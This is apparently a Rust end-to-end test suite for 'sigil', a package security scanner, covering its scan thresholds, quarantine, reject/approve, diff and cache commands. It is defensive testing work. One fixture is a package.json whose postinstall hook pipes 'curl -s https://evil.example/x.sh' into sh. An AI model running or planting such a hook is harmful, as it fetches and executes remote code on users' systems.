//! Drives the `sigil` binary end to end.

use std::fs;
use std::path::Path;

use assert_cmd::Command;
use predicates::prelude::*;

const CURL_PIPE_SH: &str = r#"{
  "name": "innocent",
  "version": "0.0.1",
  "scripts": {
    "postinstall": "curl -s https://evil.example/x.sh | sh"
  }
}"#;

/// Isolated sigil home under `home`; inherited SIGIL_* settings are cleared.
fn sigil(home: &Path) -> Command {
    let mut cmd = Command::cargo_bin("sigil").unwrap();
    cmd.current_dir(home)
        .env("SIGIL_HOME", home.join(".sigil"))
        .env("SIGIL_QUIET", "1")
        .env("SIGIL_AUDIT_LOG", home.join("audit.jsonl"));
    for key in [
        "SIGIL_QUARANTINE_DIR",
        "SIGIL_QUARANTINE",
        "SIGIL_CACHE_DIR",
        "SIGIL_SIGNATURES",
        "SIGIL_SIGNATURES_PATH",
        "SIGIL_RULES",
        "SIGIL_API_URL",
        "SIGIL_API",
        "SIGIL_ACTOR",
        "SIGIL_NO_CACHE",
        "RUST_LOG",
    ] {
        cmd.env_remove(key);
    }
    cmd
}

fn suspicious_package() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("package.json"), CURL_PIPE_SH).unwrap();
    dir
}

fn scan_json(home: &Path, target: &Path) -> serde_json::Value {
    let out = sigil(home)
        .args(["scan", "--format", "json"])
        .arg(target)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "stderr: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn threshold_reached_exits_one() {
    let home = tempfile::tempdir().unwrap();
    let pkg = suspicious_package();
    sigil(home.path())
        .args(["scan", "--threshold", "medium"])
        .arg(pkg.path())
        .assert()
        .code(1)
        .stdout(predicate::str::contains("[FAIL]"))
        .stdout(predicate::str::contains("INSTALL-008"))
        .stdout(predicate::str::contains("Risk Score:"));
}

#[test]
fn no_threshold_exits_zero_even_when_quarantined() {
    let home = tempfile::tempdir().unwrap();
    let pkg = suspicious_package();
    sigil(home.path())
        .arg("scan")
        .arg(pkg.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("Quarantine:"));
}

#[test]
fn clean_directory_exits_zero() {
    let home = tempfile::tempdir().unwrap();
    let pkg = tempfile::tempdir().unwrap();
    sigil(home.path())
        .args(["scan", "--threshold", "low"])
        .arg(pkg.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("Risk Score: 0"))
        .stdout(predicate::str::contains("Verdict: CLEAN"));
}

#[test]
fn missing_target_is_an_error() {
    let home = tempfile::tempdir().unwrap();
    sigil(home.path())
        .args(["scan", "does-not-exist"])
        .assert()
        .code(2)
        .stdout(predicate::str::contains("Scan failed: Target unreadable"));
}

#[test]
fn invalid_threshold_is_a_usage_error() {
    let home = tempfile::tempdir().unwrap();
    sigil(home.path())
        .args(["scan", ".", "--threshold", "severe"])
        .assert()
        .code(2);
}

#[test]
fn unknown_phase_is_an_error() {
    let home = tempfile::tempdir().unwrap();
    let pkg = tempfile::tempdir().unwrap();
    sigil(home.path())
        .args(["scan", "--phases", "install-hooks,dynamic"])
        .arg(pkg.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("unknown phase 'dynamic'"));
}

#[test]
fn list_and_reject_round() {
    let home = tempfile::tempdir().unwrap();
    let pkg = suspicious_package();
    let report = scan_json(home.path(), pkg.path());
    let id = report["scan_id"].as_str().unwrap().to_string();
    let prefix = &id[..8];

    sigil(home.path())
        .args(["list", "--pending"])
        .assert()
        .success()
        .stdout(predicate::str::contains(prefix));

    sigil(home.path())
        .args(["reject", prefix, "--as", "alice", "--reason", "dropper"])
        .assert()
        .success()
        .stdout(predicate::str::contains(format!("Rejected {} as user:alice", id)));

    sigil(home.path())
        .args(["list", "--pending"])
        .assert()
        .success()
        .stdout(predicate::str::contains("No quarantined scans pending a decision."));

    sigil(home.path())
        .args(["list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("rejected"));

    sigil(home.path())
        .args(["reject", &id, "--as", "bob"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("already has a quarantine decision"));

    let audit = fs::read_to_string(home.path().join("audit.jsonl")).unwrap();
    assert!(audit.contains(r#""event":"scan_completed""#));
    assert!(audit.contains(r#""event":"quarantine_rejected""#));
}

#[test]
fn reject_purges_the_held_snapshot() {
    let home = tempfile::tempdir().unwrap();
    let pkg = suspicious_package();
    let report = scan_json(home.path(), pkg.path());
    let id = report["scan_id"].as_str().unwrap().to_string();
    let held = home.path().join(".sigil").join("quarantine").join(&id);
    assert_eq!(report["quarantine_path"].as_str(), Some(held.to_str().unwrap()));
    assert_eq!(fs::read_to_string(held.join("package.json")).unwrap(), CURL_PIPE_SH);

    sigil(home.path())
        .args(["reject", &id, "--as", "alice"])
        .assert()
        .success()
        .stdout(predicate::str::contains(format!("Purged {}", held.display())));
    assert!(!held.exists());
    assert!(pkg.path().join("package.json").exists());

    let audit = fs::read_to_string(home.path().join("audit.jsonl")).unwrap();
    assert!(audit.contains(r#""event":"purge_performed""#));
}

#[test]
fn approve_needs_a_resolvable_id() {
    let home = tempfile::tempdir().unwrap();
    sigil(home.path())
        .args(["approve", "ffffffff", "--as", "alice"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("No scan with id 'ffffffff'"));
}

#[test]
fn diff_reports_new_findings() {
    let home = tempfile::tempdir().unwrap();
    let pkg = tempfile::tempdir().unwrap();
    let old = home.path().join("old.json");
    let new = home.path().join("new.json");

    sigil(home.path())
        .args(["scan", "--format", "json", "--output"])
        .arg(&old)
        .arg(pkg.path())
        .assert()
        .success();
    fs::write(pkg.path().join("package.json"), CURL_PIPE_SH).unwrap();
    sigil(home.path())
        .args(["scan", "--format", "json", "--output"])
        .arg(&new)
        .arg(pkg.path())
        .assert()
        .success();

    sigil(home.path())
        .arg("diff")
        .arg(&old)
        .arg(&new)
        .assert()
        .success()
        .stdout(predicate::str::contains("Risk Score: 0 ->"))
        .stdout(predicate::str::contains("+ package.json"));
}

#[test]
fn failed_report_has_no_score_and_cannot_be_diffed() {
    let home = tempfile::tempdir().unwrap();
    let failed = home.path().join("failed.json");
    sigil(home.path())
        .args(["scan", "--format", "json", "--output"])
        .arg(&failed)
        .arg("does-not-exist")
        .assert()
        .code(2);
    let report: serde_json::Value = serde_json::from_str(&fs::read_to_string(&failed).unwrap()).unwrap();
    assert_eq!(report["status"], "failed");
    assert!(report.get("score").is_none());
    assert!(report.get("verdict").is_none());

    sigil(home.path())
        .arg("diff")
        .arg(&failed)
        .arg(&failed)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("is a failed scan"));
}

#[test]
fn phases_lists_all_eight() {
    let home = tempfile::tempdir().unwrap();
    sigil(home.path())
        .arg("phases")
        .assert()
        .success()
        .stdout(predicate::str::contains("Install Hooks"))
        .stdout(predicate::str::contains("prompt-injection"))
        .stdout(predicate::str::contains("skill-security"));
}

#[test]
fn clear_cache_reports_count() {
    let home = tempfile::tempdir().unwrap();
    let pkg = suspicious_package();
    scan_json(home.path(), pkg.path());
    sigil(home.path())
        .arg("clear-cache")
        .assert()
        .success()
        .stdout(predicate::str::contains("Removed 1 cached scan result(s)"));
}
